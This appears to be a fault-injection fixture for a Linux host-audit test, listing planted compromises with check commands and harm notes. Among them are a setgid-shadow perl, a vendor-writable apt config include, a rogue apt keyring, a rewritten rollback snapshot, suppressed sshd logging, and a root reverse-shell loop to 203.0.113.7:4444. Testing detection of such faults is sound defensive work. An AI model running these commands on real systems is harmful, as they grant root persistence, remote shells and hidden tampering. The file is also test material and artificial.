# ruff: noqa
"""Other members of each class fixed, written after reading the gate (not blind): run with ``measure.py --after``."""

ENTRIES = []


def member(id, area, inject, check, harm):
    ENTRIES.append(dict(id=id, kind="fault", area=area, inject=inject.strip(), check=check.strip(), harm=harm))


member("after-statoverride-setgid-shadow-perl", "grants", r"""
dpkg-statoverride --update --add root shadow 2755 /usr/bin/perl
""", r"""test -g /usr/bin/perl && test "$(stat -c %G /usr/bin/perl)" = shadow""",
       "perl made setgid shadow through dpkg's stat override (no maintainer script writes it): every local user reads /etc/shadow")

member("after-apt-conf-include-vendor-dir", "runs", r"""
useradd -r -s /usr/sbin/nologin vendor; install -d -o vendor -g vendor /opt/vendor
runuser -u vendor -- sh -c "echo 'Ops::Marker \"1\";' > /opt/vendor/apt.conf"
printf '#include "/opt/vendor/apt.conf";\n' > /etc/apt/apt.conf
""", r"""apt-config dump 2>/dev/null | grep -q 'Ops::Marker' """,
       "apt's main config includes a file a vendor account owns: a DPkg::Post-Invoke it writes there runs as root")

member("after-apt-keyring-linked-from-usr-local", "grants", r"""
mkdir -p /usr/local/share/keyrings; cp /etc/apt/trusted.gpg.d/$(ls /etc/apt/trusted.gpg.d | head -n 1) /usr/local/share/keyrings/vendor.asc 2>/dev/null || cp /usr/share/keyrings/debian-archive-keyring.gpg /usr/local/share/keyrings/vendor.asc
ln -s /usr/local/share/keyrings/vendor.asc /etc/apt/trusted.gpg.d/vendor.asc
""", r"""test -L /etc/apt/trusted.gpg.d/vendor.asc && test -s /etc/apt/trusted.gpg.d/vendor.asc""",
       "a link in trusted.gpg.d to a keyring an admin put in /usr/local: apt trusts it for every source")

member("after-prev-static-changed-snapshot-rewritten", "rollback", r"""
S=$(find $PREVREL -mindepth 1 -maxdepth 1 -type d ! -name venv ! -name __pycache__ | sort | head -n 1)
FF=$(find $S -type f | sort | head -n 1); test -n "$FF"
printf '\n/* injected */\n' >> $FF
python3 - $PREVREL ${FF#$PREVREL/} <<'SNAP'
import hashlib, json, os, sys
rel, name = sys.argv[1], sys.argv[2]
p = os.path.join(rel, "SNAPSHOT.json"); st = os.stat(p); d = json.load(open(p))
for key in ("tree", "files"):
    if isinstance(d.get(key), dict) and name in d[key]:
        d[key][name] = hashlib.sha256(open(os.path.join(rel, name), "rb").read()).hexdigest()
json.dump(d, open(p, "w"), sort_keys=True); os.chown(p, st.st_uid, st.st_gid)
SNAP
""", r"""grep -rq injected $PREVREL --exclude-dir=venv && python3 -c "import json,sys; d=json.load(open('$PREVREL/SNAPSHOT.json')); sys.exit(0 if any('static' in k for k in (d.get('tree') or {})) else 1)" """,
       "a static file of the rollback target changed and its SNAPSHOT.json rewritten to match (the deploy login's own record): a rollback serves it")

member("after-sshd-loglevel-error-in-match", "mechanisms", r"""
printf '\nMatch User %s\n  LogLevel ERROR\n' "$DEPU" >> /etc/ssh/sshd_config
""", r"""/usr/sbin/sshd -T -C user=$DEPU,host=x,addr=192.0.2.1 2>/dev/null | grep -qi '^loglevel error'""",
       "the deploy login's sessions logged at ERROR only (a Match block): its logins, keys and refusals leave no trace")

member("after-root-inline-loop-left", "runs", r"""
setsid nohup /bin/sh -c 'while :; do exec 3<>/dev/tcp/203.0.113.7/4444 2>/dev/null && /bin/sh -i <&3 >&3 2>&3; sleep 30; done' >/dev/null 2>&1 < /dev/null &
setsid nohup /bin/bash -c 'while :; do (exec 3<>/dev/tcp/203.0.113.7/4444) 2>/dev/null; sleep 30; done' >/dev/null 2>&1 < /dev/null &
sleep 1
""", r"""pgrep -u root -f '203.0.113.7/4444' >/dev/null""",
       "a root shell loop with its code on its command line, left with setsid nohup, connecting out")

member("after-root-opt-binary-left", "runs", r"""
install -d /opt/support; cp /usr/bin/sleep /opt/support/supportd
setsid nohup /opt/support/supportd 86400 >/dev/null 2>&1 < /dev/null &
sleep 1
""", r"""pgrep -u root -f /opt/support/supportd >/dev/null""",
       "a root 'support' daemon from /opt left running under pid 1 (a copy of a program no package ships there)")
